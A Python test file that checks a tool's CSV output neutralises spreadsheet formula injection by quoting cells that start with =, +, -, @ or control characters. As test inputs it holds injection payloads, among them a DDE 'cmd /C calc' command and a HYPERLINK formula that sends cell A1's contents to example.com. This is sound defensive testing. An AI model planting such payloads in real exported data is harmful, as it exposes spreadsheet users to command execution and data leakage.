"""No cell of a table in CSV is a formula to a spreadsheet; what programs read stays as it is."""

import csv
import io
import json
import tempfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fsm.logs.write.tables import write_frame
from fsm.text import inert
from tests.command import Fsm

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\tx",
    "\rx",
    "=",
    "'=1+1",
    "\uff1d1+1",
)
DATA = (
    "",
    "-",
    "-1",
    "+12.5",
    "+491701234567",
    "-Wx_9",
    "a=b",
    "<20130101@mail.example>",
    "'quoted'",
    "it's",
)
TEXTS = st.text("=+-@\t\r'a1|(", max_size=6) | st.text(max_size=6)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", DATA)
def test_data_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@given(TEXTS, TEXTS)
def test_different_texts_stay_different(one: str, other: str) -> None:
    assert (inert(one) == inert(other)) == (one == other)


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_frames_are_written_alike(texts: list[str]) -> None:
    with tempfile.TemporaryDirectory() as place:
        path = Path(place, "a.csv")
        write_frame(pl.DataFrame({"n": range(len(texts)), "text": texts}), path, inert=True)
        with path.open(newline="", encoding="utf-8") as file:
            assert [row[1] for row in csv.reader(file)][1:] == list(map(inert, texts))


LOG = """message_id,event,timestamp,delivery_id
=1+1,relayed,2026-03-02T09:00:00Z,"@SUM(1,1)"
-Wx9,"=HYPERLINK(""x"")",2026-03-02T09:00:00Z,+491701234567
m3,relayed,2026-03-02T09:00:01Z,"-2+3+cmd|' /C calc'!A0"
"""


def cells(path: Path) -> set[str]:
    with path.open(newline="") as file:
        return {cell for row in csv.reader(file) for cell in row}


def test_what_a_log_says_is_no_formula_in_results(fsm: Fsm, tmp_path: Path) -> None:
    log = tmp_path / "log.csv"
    log.write_text(LOG)
    names = ("status", "rejected", "series")
    files = {name: tmp_path / f"{name}.csv" for name in names}
    assert fsm("replay", log, *(part for n in names for part in (f"--{n}", files[n]))).status == 0
    assert cells(files["status"]) >= {"'=1+1", "-Wx9", "'@SUM(1,1)", '\'=HYPERLINK("x")'}
    assert cells(files["rejected"]) >= {'\'=HYPERLINK("x")', "+491701234567"}
    assert cells(files["series"]) >= {"'-2+3+cmd|' /C calc'!A0"}
    for file in files.values():
        assert not {cell for cell in cells(file) if cell[:1] in ("=", "@")}


def test_the_same_results_for_programs_hold_the_text(fsm: Fsm, tmp_path: Path) -> None:
    log, status = tmp_path / "log.csv", tmp_path / "status.jsonl"
    log.write_text(LOG)
    assert fsm("replay", log, "--status", status).status == 0
    ids = [json.loads(line)["message_id"] for line in status.read_text().splitlines()]
    assert sorted(ids) == ["-Wx9", "=1+1", "m3"]


COMMANDS = {
    "show": ("show", "--format", "csv"),
    "matrix": ("show", "--matrix", "--format", "csv"),
    "suite": ("suite", "--format", "csv"),
}


@pytest.mark.parametrize("words", COMMANDS.values(), ids=COMMANDS)
def test_what_a_machine_says_is_no_formula(
    fsm: Fsm, tmp_path: Path, words: tuple[str, ...]
) -> None:
    machine = tmp_path / "machine.dot"
    edges = 'a -> b [label="=1+1 / @SUM(1)"] b -> a [label="=1+1 / x"]'
    machine.write_text(f'digraph {{ __start0 [label=""] __start0 -> a {edges} }}')
    done = fsm(words[0], machine, *words[1:])
    assert done.status == 0, done.err
    shown = {cell for row in csv.reader(io.StringIO(done.out)) for cell in row}
    assert any("'=1+1" in cell for cell in shown)
    assert not {cell for cell in shown if cell[:1] in ("=", "@")}


def test_a_frame_is_written_as_it_is_unless_people_open_it(tmp_path: Path) -> None:
    frame, path = pl.DataFrame({"event": ["=1+1"]}), tmp_path / "a.csv"
    write_frame(frame, path)
    assert path.read_text() == "event\n=1+1\n"
    write_frame(frame, path, inert=True)
    assert path.read_text() == "event\n'=1+1\n"
